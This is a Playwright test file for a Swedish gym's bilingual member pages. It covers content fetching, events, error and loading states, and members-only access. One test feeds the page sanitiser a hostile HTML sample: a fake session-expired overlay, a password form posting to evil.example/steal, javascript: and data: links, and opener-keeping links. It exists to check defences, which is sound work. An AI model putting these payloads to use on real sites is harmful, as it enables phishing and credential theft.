// Member area, offers and membership information (spec §2): content-site pages found by title,
// rendered sanitised, with the MyPagesLoaded event and the loading/error/cannot-find fallbacks.
import { expect, test, type Page } from './support/fixtures';

/** Opens a member page and waits for its own chunk (slow on a busy machine) to show its heading. */
async function open(page: Page, path: string) {
  await page.goto(path);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
}

/** Counts MyPagesLoaded events on the document from the very start of the page. */
async function listenForMyPagesLoaded(page: Page) {
  await page.addInitScript(() => {
    const w = window as unknown as { __myPagesLoaded: number };
    w.__myPagesLoaded = 0;
    document.addEventListener('MyPagesLoaded', () => {
      w.__myPagesLoaded += 1;
    });
  });
}

/**
 * Opens a member page from the overview's menu, so the browser asks for its content itself
 * (opened directly, the server would have asked, out of the test's sight).
 */
async function openFromMenu(page: Page, path: string) {
  await open(page, path.replace(/[^/]+\/$/, 'overview/'));
  await page.locator(`nav a[href="${path}"]`).first().click();
  await expect(page).toHaveURL(new RegExp(`${path}$`));
}

const myPagesLoadedCount = (page: Page) =>
  page.evaluate(() => (window as unknown as { __myPagesLoaded: number }).__myPagesLoaded);

test.describe('offers and membership information', () => {
  test.beforeEach(async ({ page, signIn }) => {
    await signIn();
    await listenForMyPagesLoaded(page);
  });

  // The content site's page is found by its title (spec §2); on screen the page is called what
  // its menu entry says.
  const pages = [
    {
      path: '/mina-sidor/offers/',
      title: 'Mina erbjudande',
      heading: 'Erbjudanden',
      text: 'Erbjudanden för dig som är medlem',
      lang: 'sv',
    },
    {
      path: '/en/mina-sidor/offers/',
      title: 'My offers',
      heading: 'Offers',
      text: 'Offers for members',
      lang: 'en',
    },
    {
      path: '/mina-sidor/news/',
      title: 'Medlemsinformation',
      heading: 'Medlemsinformation',
      text: 'Ditt medlemskap',
      lang: 'sv',
    },
    {
      path: '/en/mina-sidor/news/',
      title: 'Membership information',
      heading: 'Membership information',
      text: 'Your membership',
      lang: 'en',
    },
  ];
  for (const { path, title, heading, text, lang } of pages) {
    test(`${path} shows the page '${title}' as '${heading}' and fires MyPagesLoaded`, async ({
      page,
      expectAccessible,
    }) => {
      const request = page.waitForRequest((r) => r.url().includes('/wp-json/wp/v2/pages'));
      await openFromMenu(page, path);
      const url = new URL((await request).url());
      expect(url.searchParams.get('search')).toBe(title);
      expect(url.searchParams.get('lang')).toBe(lang);
      await expect(page.getByRole('heading', { level: 1 })).toHaveText(heading);
      await expect(page).toHaveTitle(new RegExp(`^${heading} - `));
      // The menu entry says the same.
      await expect(page.locator(`a[href="${path}"]`).first()).toHaveText(heading);
      await expect(page.getByRole('heading', { level: 2, name: text })).toBeVisible();
      await expect.poll(() => myPagesLoadedCount(page)).toBe(1);
      await expectAccessible();
    });
  }

  test('the news menu item leads to the membership information @mobile', async ({ page }) => {
    await open(page, '/mina-sidor/offers/');
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Erbjudanden');
    const menu = page.getByRole('navigation', { name: 'Mina sidor' });
    if (await menu.isVisible())
      await menu.getByRole('link', { name: 'Medlemsinformation' }).click();
    else {
      await page.getByRole('combobox', { name: 'Mina sidor' }).click();
      await page.getByRole('option', { name: 'Medlemsinformation' }).click();
    }
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Medlemsinformation');
    await expect(page.getByRole('heading', { name: 'Frysa medlemskapet' })).toBeVisible();
    await expect.poll(() => myPagesLoadedCount(page)).toBe(2);
  });

  test('runs no script from the page HTML and keeps its harmless text', async ({
    page,
    scenario,
    allowCspViolations,
  }) => {
    // The sanitiser's parser meets the inline handler: Chromium reports it, blocked.
    allowCspViolations(['script-src-attr', 'style-src-elem']);
    await scenario('GET', '/wp/v2/pages', 'example=script-injection');
    await open(page, '/mina-sidor/offers/');
    await expect(page.getByText('Våra erbjudanden uppdateras varje månad.')).toBeVisible();
    await expect(page.getByText('Visa ditt medlemskort i receptionen.')).toBeVisible();
    // Give a broken <img onerror> every chance to fire before checking.
    await page.waitForLoadState('networkidle');
    expect(
      await page.evaluate(() => (window as unknown as { __xss?: number }).__xss),
    ).toBeUndefined();
    const body = page.locator('main article');
    await expect(body.locator('script')).toHaveCount(0);
    await expect(body.locator('[onerror]')).toHaveCount(0);
    await expect.poll(() => myPagesLoadedCount(page)).toBe(1);
  });

  test('a hostile page cannot overlay the page, keep window.opener on its links or post a form', async ({
    page,
    leaveToBrowser,
    expectAccessible,
    allowCspViolations,
  }) => {
    // The sanitiser's parser meets the <style> element: Chromium reports it, blocked.
    allowCspViolations(['script-src-attr', 'style-src-elem']);
    leaveToBrowser('GET', '/wp/v2/pages');
    const hostile = `
      <p>Veckans erbjudande: 20 % på massage.</p>
      <div id="overlay" style="position:fixed;inset:0;z-index:2147483647;background:#fff">
        Din session har gått ut. Logga in igen nedan.
      </div>
      <style>main h1 { display: none }</style>
      <dialog open>Ditt konto är spärrat. Ring 08-123 45 67.</dialog>
      <div popover="manual">Vinn ett årskort!</div>
      <div class="MuiBackdrop-root">Laddar …</div>
      <form id="steal" action="https://evil.example/steal" method="post">
        <input name="password" type="password" aria-label="Lösenord">
        <button type="submit">Logga in</button>
      </form>
      <p><a id="out" href="https://evil.example/offer" target="_blank">Till erbjudandet</a></p>
      <p><a id="top" href="https://evil.example/top" target="_top" rel="opener">Visa mer</a></p>
      <p><a id="js" href="javascript:window.__xss=1">Klicka här</a></p>
      <p><a id="data" href="data:text/html,<script>opener.location='https://evil.example'</script>">Öppna</a></p>
      <p><a id="frame" href="https://evil.example/x" target="evilframe">Ram</a></p>`;
    await page.route('**/wp-json/wp/v2/pages**', async (route) => {
      const response = await route.fetch();
      const [offers, ...rest] = (await response.json()) as { content: { rendered: string } }[];
      await route.fulfill({
        response,
        json: [{ ...offers!, content: { ...offers!.content, rendered: hostile } }, ...rest],
      });
    });
    const evil: string[] = [];
    await page.context().route('https://evil.example/**', async (route) => {
      evil.push(`${route.request().method()} ${route.request().url()}`);
      await route.fulfill({ contentType: 'text/html', body: '<title>evil</title><p>evil</p>' });
    });
    await open(page, '/mina-sidor/offers/');
    const body = page.locator('.content-page-body');
    await expect(body.getByText('Veckans erbjudande')).toBeVisible();

    // No overlay: the inline style, the open dialog, the popover and the page's own classes are
    // gone (their text stays), the page's own heading stays on top and visible.
    await expect(body.locator('[style]')).toHaveCount(0);
    await expect(body.locator('style')).toHaveCount(0);
    await expect(body.locator('dialog, [popover], [class]')).toHaveCount(0);
    await expect(page.getByRole('dialog')).toHaveCount(0);
    await expect(body.getByText('Ditt konto är spärrat.')).toBeVisible();
    await expect(page.getByRole('heading', { level: 1, name: 'Erbjudanden' })).toBeVisible();
    const topmost = await page.evaluate(() => {
      const element = document.elementFromPoint(window.innerWidth / 2, window.innerHeight / 2);
      const overlay = [...document.querySelectorAll('.content-page-body div')].find((div) =>
        div.textContent?.trim().startsWith('Din session har gått ut'),
      );
      return element && overlay?.contains(element) ? 'overlay' : 'page';
    });
    expect(topmost).toBe('page');

    // No form to post: the form and its controls are gone, the text around them stays.
    await expect(body.locator('form, input, button, select, textarea')).toHaveCount(0);

    // Every link with a target gets noopener; script and data URLs lose their href.
    // (The ids are gone too: a page's markup must not clobber the app's own.)
    await expect(body.locator('[id]')).toHaveCount(0);
    for (const name of ['Till erbjudandet', 'Visa mer', 'Ram'])
      await expect(body.getByText(name, { exact: true })).toHaveAttribute(
        'rel',
        'noopener noreferrer',
      );
    await expect(body.getByText('Klicka här', { exact: true })).not.toHaveAttribute('href', /./);
    await expect(body.getByText('Öppna', { exact: true })).not.toHaveAttribute('href', /./);

    // The opened page cannot reach back.
    const popupOpened = page.waitForEvent('popup');
    await body.getByText('Till erbjudandet', { exact: true }).click();
    const popup = await popupOpened;
    await popup.waitForLoadState();
    expect(await popup.evaluate(() => window.opener === null)).toBe(true);
    await popup.close();

    await body.getByText('Klicka här', { exact: true }).click();
    expect(await page.evaluate(() => (window as { __xss?: number }).__xss)).toBeUndefined();
    expect(evil.filter((request) => request.startsWith('POST'))).toEqual([]);
    await expect(page).toHaveURL(/\/mina-sidor\/offers\/$/);
    await expectAccessible();
  });

  test('says the page cannot be found when no page has the title, and fires MyPagesLoaded', async ({
    page,
    scenario,
    expectAccessible,
  }) => {
    await scenario('GET', '/wp/v2/pages', 'example=empty');
    await open(page, '/mina-sidor/offers/');
    await expect(page.getByText('Sidan kunde inte hittas.')).toBeVisible();
    // Spec §2: the event says the page has loaded, found or not.
    await expect.poll(() => myPagesLoadedCount(page)).toBe(1);
    await expectAccessible();
  });

  test('ignores a search hit whose title is not the page title', async ({ page, scenario }) => {
    // The Swedish membership page answers an English offers search: not the page asked for.
    await scenario('GET', '/wp/v2/pages', 'example=membership-info-sv');
    await open(page, '/en/mina-sidor/offers/');
    await expect(page.getByText('The page could not be found.')).toBeVisible();
    await expect(page.getByText('Ditt medlemskap')).toHaveCount(0);
  });

  test('shows the error text when the content site fails', async ({
    page,
    scenario,
    expectAccessible,
  }) => {
    await scenario('GET', '/wp/v2/pages', 'code=400');
    await open(page, '/en/mina-sidor/news/');
    await expect(
      page.getByText('Something went wrong. Please try again in a moment.'),
    ).toBeVisible();
    expect(await myPagesLoadedCount(page)).toBe(0);
    await expectAccessible();
  });

  test('shows the loading text while the page loads', async ({ page, leaveToBrowser }) => {
    leaveToBrowser('GET', '/wp/v2/pages');
    let release = () => {};
    const held = new Promise<void>((resolve) => (release = resolve));
    await page.route('**/wp-json/wp/v2/pages**', async (route) => {
      await held;
      await route.fallback();
    });
    await open(page, '/mina-sidor/news/');
    await expect(page.getByRole('status').filter({ hasText: 'Laddar...' })).toBeVisible();
    release();
    await expect(page.getByRole('heading', { name: 'Ditt medlemskap' })).toBeVisible();
    await expect(page.getByText('Laddar...')).toHaveCount(0);
  });

  test('without a subscription, offers and news opened by URL say they are for members and load nothing', async ({
    page,
    scenario,
    expectAccessible,
  }) => {
    await scenario('GET', '/customers/*/subscriptions', 'example=empty');
    const contentRequests: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('/wp-json/wp/v2/pages')) contentRequests.push(request.url());
    });
    await open(page, '/mina-sidor/offers/');
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Erbjudanden');
    await expect(page.getByText('Den här sidan är för dig som har ett medlemskap.')).toBeVisible();
    await expect(page.getByText('Erbjudanden för dig som är medlem')).toHaveCount(0);
    await expectAccessible();

    await page.goto('/en/mina-sidor/news/');
    await expect(page.getByText('This page is for members with a membership.')).toBeVisible();
    await expect(page.getByText('Your membership')).toHaveCount(0);
    expect(contentRequests).toEqual([]);
    expect(await myPagesLoadedCount(page)).toBe(0);
    await page.getByRole('link', { name: 'Go to the overview' }).click();
    await expect(page).toHaveURL(/\/en\/mina-sidor\/overview\/$/);
  });
});

test.describe('notes from the content site on member pages (brp_my_pages)', () => {
  test.beforeEach(async ({ signIn }) => {
    await signIn();
  });

  test('the bookings page shows its note in the page language @mobile', async ({
    page,
    leaveToBrowser,
    expectAccessible,
  }) => {
    leaveToBrowser('GET', '/wp/v2/brp_my_pages');
    const request = page.waitForRequest((r) => r.url().includes('/wp-json/wp/v2/brp_my_pages'));
    await open(page, '/mina-sidor/bookings/');
    expect(new URL((await request).url()).searchParams.get('lang')).toBe('sv');
    const note = page.getByRole('region', { name: 'Bra att veta' });
    await expect(note).toContainText('Avboka gruppträning senast två timmar före start.');
    await expectAccessible();

    const english = page.waitForRequest(
      (r) =>
        r.url().includes('/wp-json/wp/v2/brp_my_pages') &&
        new URL(r.url()).searchParams.get('lang') === 'en',
    );
    await page.goto('/en/mina-sidor/bookings/');
    await english;
    await expect(page.getByRole('region', { name: 'Good to know' })).toContainText(
      'Cancel group classes at the latest two hours before they start.',
    );
  });

  test('a page without a note, or a failing content site, shows the page without one', async ({
    page,
    scenario,
    leaveToBrowser,
  }) => {
    leaveToBrowser('GET', '/wp/v2/brp_my_pages');
    // The notes have come (and are none for this page) before the page is judged, and before the
    // next wait: an answer still on its way would otherwise be taken for the bookings page's.
    const notes = page.waitForResponse((r) => r.url().includes('/wp-json/wp/v2/brp_my_pages'));
    await open(page, '/mina-sidor/purchases/');
    expect((await notes).status()).toBe(200);
    await expect(page.getByRole('heading', { level: 1, name: 'Mina köp' })).toBeVisible();
    await expect(page.getByTestId('member-page-note')).toHaveCount(0);

    await scenario('GET', '/wp/v2/brp_my_pages', 'code=400');
    const failed = page.waitForResponse((r) => r.url().includes('/wp-json/wp/v2/brp_my_pages'));
    await page.goto('/mina-sidor/bookings/');
    expect((await failed).status()).toBe(400);
    await expect(page.getByRole('heading', { level: 1, name: 'Bokningar' })).toBeVisible();
    await expect(page.getByTestId('member-page-note')).toHaveCount(0);
  });

  test('posts without ACF fields cost no page its content: the pages show, without a note', async ({
    page,
    scenario,
  }) => {
    // A site that does not expose ACF over REST sends no `acf`; one whose fields are empty, `[]`.
    await scenario('GET', '/wp/v2/brp_my_pages', 'example=without-acf');
    await open(page, '/mina-sidor/bookings/');
    await expect(page.getByRole('heading', { level: 1, name: 'Bokningar' })).toBeVisible();
    await expect(page.getByText('Något gick fel')).toHaveCount(0);
    await expect(page.getByTestId('member-page-note')).toHaveCount(0);
    await page.goto('/mina-sidor/overview/');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await expect(page.getByText('Något gick fel')).toHaveCount(0);
  });

  test('a content site that does not answer is not the booking system: no banner', async ({
    page,
    leaveToBrowser,
  }) => {
    leaveToBrowser('GET', '/wp/v2/brp_my_pages');
    await page.route('**/wp-json/wp/v2/brp_my_pages**', (route) =>
      route.fulfill({
        status: 503,
        contentType: 'text/html',
        body: '<h1>Service Unavailable</h1>',
      }),
    );
    const failed = page.waitForResponse((r) => r.url().includes('/wp-json/wp/v2/brp_my_pages'));
    await open(page, '/mina-sidor/bookings/');
    expect((await failed).status()).toBe(503);
    await expect(page.getByRole('heading', { level: 1, name: 'Bokningar' })).toBeVisible();
    await expect(page.getByTestId('api-unavailable')).toHaveCount(0);
    await expect(page.getByText(/Bokningssystemet/)).toHaveCount(0);
  });
});
